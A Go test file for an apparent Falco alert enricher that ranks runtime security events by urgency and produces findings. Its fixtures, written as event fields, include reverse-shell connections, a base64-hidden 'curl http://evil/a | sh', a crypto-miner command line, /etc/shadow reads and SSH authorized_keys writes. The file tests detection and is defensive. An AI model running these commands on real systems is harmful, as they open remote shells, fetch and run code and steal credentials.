@@ -1,0 +1,163 @@
+package enrich_test
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	pb "github.com/falco-reporter/falco-reporter/gen/go/falcoreporter/v1"
+	"github.com/falco-reporter/falco-reporter/internal/alert"
+	"github.com/falco-reporter/falco-reporter/internal/enrich"
+)
+
+const (
+	record = pb.UrgencyLevel_URGENCY_LEVEL_RECORD
+	today  = pb.UrgencyLevel_URGENCY_LEVEL_TODAY
+	page   = pb.UrgencyLevel_URGENCY_LEVEL_PAGE
+)
+
+// TestUrgency: computed from what happened, never from the priority alone.
+func TestUrgency(t *testing.T) {
+	for name, tc := range map[string]struct {
+		priority string
+		fields   map[string]any
+		want     pb.UrgencyLevel
+		why      string
+	}{
+		"critical and done":        {"Critical", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "x"}, page, "Falco priority Critical."},
+		"critical and refused":     {"Critical", map[string]any{"evt.type": "execve", "evt.res": "EPERM", "proc.name": "x"}, today, "The call was refused."},
+		"critical, result unknown": {"Critical", map[string]any{"evt.type": "execve", "proc.name": "x"}, page, "Critical"},
+		"warning and failed":       {"Warning", map[string]any{"evt.type": "openat", "evt.res": "ENOENT", "proc.name": "x", "fd.name": "/etc/shadow"}, record, "The call failed."},
+		"reverse shell at notice":  {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "bash", "fd.name": "10.0.0.1:5->203.0.113.9:4444", "fd.sip": "203.0.113.9"}, page, "A shell joined to a network connection."},
+		"reverse shell, refused":   {"Notice", map[string]any{"evt.type": "dup2", "evt.res": "EBADF", "proc.name": "bash", "fd.name": "10.0.0.1:5->203.0.113.9:4444"}, record, "The call failed."},
+		"shell to the host itself": {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "bash", "fd.name": "127.0.0.1:5->127.0.0.1:4444", "fd.sip": "127.0.0.1"}, today, "within the host"},
+		"a server's own dup":       {"Notice", map[string]any{"evt.type": "dup2", "proc.name": "inetd", "fd.name": "10.0.0.1:5->203.0.113.9:4444"}, record, "Notice"},
+		"shell under a web server": {"Notice", map[string]any{"evt.type": "execve", "proc.name": "sh", "proc.pname": "php-fpm"}, page, "A shell under a web server."},
+		"ls under a database":      {"Notice", map[string]any{"evt.type": "execve", "proc.name": "ls", "proc.pname": "mysqld"}, today, "database server"},
+		"memory file at notice":    {"Notice", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "3", "proc.exepath": "memfd:x"}, page, "only in memory"},
+		"keys written":             {"Notice", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_WRONLY|O_CREAT", "proc.name": "x", "fd.name": "/root/.ssh/authorized_keys"}, page, "Write access to keys"},
+		"keys opened":              {"Notice", map[string]any{"evt.type": "openat", "proc.name": "x", "fd.name": "/root/.ssh/authorized_keys"}, today, "Access to keys"},
+		"shadow read":              {"Notice", map[string]any{"evt.type": "openat", "evt.arg.flags": "O_RDONLY", "proc.name": "x", "fd.name": "/etc/shadow"}, today, "Access to the password hashes"},
+		"miner":                    {"Notice", map[string]any{"evt.type": "execve", "proc.name": "xmrig", "proc.exepath": "/tmp/xmrig", "proc.cmdline": "xmrig -o stratum+tcp://pool:3333"}, page, "mining pool"},
+		"miner mentioned":          {"Notice", map[string]any{"evt.type": "execve", "proc.name": "echo", "proc.exepath": "/usr/bin/echo", "proc.cmdline": "echo -o stratum+tcp"}, record, "Notice"},
+		"hidden command":           {"Notice", map[string]any{"evt.type": "execve", "proc.name": "bash", "proc.cmdline": "bash -c echo Y3VybCBodHRwOi8vZXZpbC9hIHwgc2g= | base64 -d | sh"}, today, "base64"},
+		"metadata service":         {"Notice", map[string]any{"evt.type": "connect", "proc.name": "curl", "fd.name": "10.0.0.1:5->169.254.169.254:80", "fd.sip": "169.254.169.254"}, today, "metadata"},
+		"drill never lowers":       {"Critical", map[string]any{"evt.type": "execve", "evt.res": "SUCCESS", "proc.name": "x", "proc.pname": "event-generator"}, page, "Critical"},
+		"unknown priority":         {"Urgent", map[string]any{}, today, "no priority"},
+		"debug":                    {"Debug", map[string]any{}, record, "Debug"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			a := decode(t, strings.Replace(alertJSON(t, "syscall", tc.fields), `"priority":"Notice"`, `"priority":"`+tc.priority+`"`, 1))
+			u := enricher(t).Report(a).GetUrgency()
+			if u.GetLevel() != tc.want || !strings.Contains(u.GetWhy(), tc.why) || u.GetLate() {
+				t.Errorf("urgency %v; want %v with %q", u, tc.want, tc.why)
+			}
+		})
+	}
+}
+
+func TestLateEventsDoNotPage(t *testing.T) {
+	for _, tc := range []struct {
+		after, age time.Duration
+		want       pb.UrgencyLevel
+		late       bool
+	}{
+		{0, 14 * time.Minute, page, false},
+		{0, 16 * time.Minute, today, true},
+		{time.Hour, 16 * time.Minute, page, false},
+		{-1, 1000 * time.Hour, page, false},
+		{0, -time.Hour, page, false}, // a clock ahead of ours
+	} {
+		e, err := enrich.Embedded(enrich.Urgency{LateAfter: tc.after})
+		if err != nil {
+			t.Fatal(err)
+		}
+		a := decode(t, seed)
+		a.ReceivedNanos = a.Nanos + int64(tc.age)
+		if u := e.Report(a).GetUrgency(); u.GetLevel() != tc.want || u.GetLate() != tc.late {
+			t.Errorf("after %s, age %s: %v", tc.after, tc.age, u)
+		}
+	}
+}
+
+func TestUrgencyThresholds(t *testing.T) {
+	e, err := enrich.Embedded(enrich.Urgency{PageAt: alert.PriorityError, TodayAt: alert.PriorityNotice})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for priority, want := range map[string]pb.UrgencyLevel{"Error": page, "Warning": today, "Notice": today, "Informational": record} {
+		a := decode(t, strings.Replace(alertJSON(t, "syscall", nil), `"priority":"Notice"`, `"priority":"`+priority+`"`, 1))
+		if u := e.Report(a).GetUrgency(); u.GetLevel() != want {
+			t.Errorf("%s: %v", priority, u)
+		}
+	}
+}
+
+// TestRequestUrgency: what the Kubernetes API answered decides.
+func TestRequestUrgency(t *testing.T) {
+	for name, tc := range map[string]struct {
+		fields map[string]any
+		want   pb.UrgencyLevel
+	}{
+		"anonymous, granted": {map[string]any{"ka.user.name": "system:anonymous", "ka.verb": "list", "ka.response.code": 200}, page},
+		"anonymous, refused": {map[string]any{"ka.user.name": "system:anonymous", "ka.verb": "list", "ka.response.code": 403}, record},
+		"into a pod":         {map[string]any{"ka.user.name": "bob", "ka.verb": "create", "ka.target.resource": "pods", "ka.target.subresource": "exec", "ka.response.code": 200}, today},
+	} {
+		t.Run(name, func(t *testing.T) {
+			if u := enricher(t).Report(decode(t, alertJSON(t, "k8s_audit", tc.fields))).GetUrgency(); u.GetLevel() != tc.want {
+				t.Errorf("urgency %v; want %v", u, tc.want)
+			}
+		})
+	}
+}
+
+// TestMoreFindings: combinations of fields.
+func TestMoreFindings(t *testing.T) {
+	e := enricher(t)
+	for name, tc := range map[string]struct {
+		fields map[string]any
+		want   string // part of a finding; with a leading ! of none
+	}{
+		"base64":             {map[string]any{"proc.cmdline": "sh -c echo aWQgPiAvdG1wL293bmVk | base64 -d"}, "base64 of “id > /tmp/owned”"},
+		"no base64":          {map[string]any{"proc.cmdline": "ls /usr/lib/x86_64-linux-gnu/libfoobarbazqux"}, "!base64"},
+		"entrypoint":         {map[string]any{"container.id": "abc", "proc.name": "sh", "proc.vpid": 1}, "container's first process"},
+		"entered":            {map[string]any{"container.id": "abc", "proc.name": "sh", "proc.vpid": 17, "proc.pname": "runc"}, "from outside"},
+		"not entered":        {map[string]any{"container.id": "abc", "proc.name": "sh", "proc.vpid": 17, "proc.pname": "bash"}, "!from outside"},
+		"disguise":           {map[string]any{"proc.name": "kworker/0:1", "proc.exepath": "/tmp/x"}, "a script, a link, or a disguise"},
+		"cut name":           {map[string]any{"proc.name": "a-very-long-nam", "proc.exepath": "/bin/a-very-long-name"}, "!disguise"},
+		"temporary folder":   {map[string]any{"proc.exepath": "/dev/shm/x"}, "lies below /dev/shm"},
+		"downloader":         {map[string]any{"evt.type": "execve", "proc.name": "curl"}, "fetch or send"},
+		"downloader refused": {map[string]any{"evt.type": "execve", "evt.res": "ENOENT", "proc.name": "curl"}, "!fetch or send"},
+		"peer in the name":   {map[string]any{"fd.name": "10.0.0.1:5->[2001:db8::1]:443"}, "2001:db8::1, is a public address"},
+		"docker socket":      {map[string]any{"fd.name": "/var/run/docker.sock"}, "control over every container"},
+		"ordinary file":      {map[string]any{"fd.name": "/srv/data"}, "!holds"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			a := withFields(t, tc.fields)
+			r := e.Report(a)
+			checkReport(t, a, r)
+			got := strings.Join(statements(r), "\n")
+			want, none := strings.CutPrefix(tc.want, "!")
+			if strings.Contains(got, want) == none {
+				t.Errorf("want %q in:\n%s", tc.want, got)
+			}
+		})
+	}
+}
+
+// TestARuleThatClaimsSuccess is contradicted by the result.
+func TestARuleThatClaimsSuccess(t *testing.T) {
+	var m map[string]any
+	if err := json.Unmarshal([]byte(alertJSON(t, "syscall", map[string]any{"evt.type": "execve", "evt.res": "EPERM", "proc.name": "x"})), &m); err != nil {
+		t.Fatal(err)
+	}
+	m["output"] = "Program executed successfully"
+	raw, err := json.Marshal(m)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if got := strings.Join(statements(enricher(t).Report(decode(t, string(raw)))), "\n"); !strings.Contains(got, "says otherwise") {
+		t.Errorf("findings:\n%s", got)
+	}
+}
